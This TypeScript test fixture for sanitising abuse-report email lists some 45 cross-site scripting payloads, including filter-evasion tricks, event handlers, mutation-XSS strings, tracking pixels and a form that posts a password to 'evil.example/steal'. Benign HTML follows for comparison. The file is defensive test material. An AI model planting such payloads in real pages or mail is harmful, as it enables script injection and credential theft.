/**
 * Cross-site scripting payloads of the kinds reported mail carries (after the OWASP XSS filter evasion
 * cheat sheet and the HTML5 Security Cheatsheet): each calls `xss()` or loads from `evil.example` /
 * `tracker.example` if it gets through. Used by the tests of the report body.
 */
export const XSS_CORPUS: [string, string][] = [
  ["script element", "<script>xss()</script>"],
  ["script with src", '<script src="https://evil.example/x.js"></script>'],
  ["img onerror", "<img src=x onerror=xss()>"],
  ["svg onload", "<svg onload=xss()>"],
  ["script inside svg", "<svg><script>xss()</script></svg>"],
  ["svg link", '<svg><a xlink:href="javascript:xss()"><text x="20" y="20">click</text></a></svg>'],
  ["javascript: link", '<a href="javascript:xss()">click</a>'],
  ["mixed-case javascript: link", '<a href="JaVaScRiPt:xss()">click</a>'],
  ["javascript: with a tab", '<a href="java&#x09;script:xss()">click</a>'],
  [
    "entity-encoded javascript:",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">click</a>',
  ],
  ["javascript: after spaces", '<a href="  javascript:xss()">click</a>'],
  ["vbscript: link", '<a href="vbscript:xss()">click</a>'],
  ["data: link", '<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">click</a>'],
  ["protocol-relative link", '<a href="//evil.example/">click</a>'],
  ["event handler on a link", '<a href="http://ok.example/" onclick="xss()">ok</a>'],
  ["event handler on a paragraph", '<p onmouseover="xss()">hover</p>'],
  ["body onload", "<body onload=xss()>text</body>"],
  ["details ontoggle", "<details open ontoggle=xss()>x</details>"],
  ["input autofocus onfocus", "<input autofocus onfocus=xss()>"],
  ["unknown element with handler", "<x onclick=xss()>click</x>"],
  ["CSS url(javascript:)", '<div style="background:url(javascript:xss())">x</div>'],
  ["CSS expression()", '<div style="width: expression(xss())">x</div>'],
  ["style element", '<style>body{background:url("https://tracker.example/css.gif")}</style>text'],
  ["stylesheet link", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["meta refresh to javascript:", '<meta http-equiv="refresh" content="0;url=javascript:xss()">'],
  ["meta refresh to a site", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    "form posting a password",
    '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  ],
  ["iframe", '<iframe src="https://evil.example/"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>parent.xss()</script>"></iframe>'],
  ["object", '<object data="https://evil.example/x.swf"></object>'],
  ["embed", '<embed src="https://evil.example/x.swf">'],
  ["base href", '<base href="https://evil.example/"><a href="page">relative</a>'],
  ["tracking pixel", '<img src="https://tracker.example/pixel.gif?id=abuse-desk" width="1" height="1">'],
  ["background image", '<table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>'],
  ["video source onerror", "<video><source onerror=xss()></video>"],
  ["audio onerror", "<audio src=x onerror=xss()></audio>"],
  ["comment hiding a tag", "<!--<img src=x onerror=xss()>-->text"],
  ["noscript mutation", '<noscript><p title="</noscript><img src=x onerror=xss()>">'],
  ["math and style mutation", "<math><mtext><table><mglyph><style><img src=x onerror=xss()>"],
  ["template", "<template><img src=x onerror=xss()></template>"],
  ["textarea breakout", "<textarea></textarea><img src=x onerror=xss()>"],
  ["unclosed attribute", '<a href="http://ok.example/ onmouseover=xss() x="'],
  ["srcset", '<img srcset="https://tracker.example/a.gif 1x">'],
  ["formaction", '<button formaction="javascript:xss()">go</button>'],
];

/** What the sanitised HTML of an ordinary phishing complaint keeps. */
export const ORDINARY_HTML =
  '<html><head><title>t</title></head><body><p>Dear abuse team,</p><p>The page <a href="https://bank-login.example.nl/secure">bank-login.example.nl</a> steals passwords.</p><table><tr><th>IP</th><td>192.0.2.10</td></tr></table><ul><li><b>first</b> seen today</li></ul><p>Mail <a href="mailto:cert@example.org">cert@example.org</a></p></body></html>';
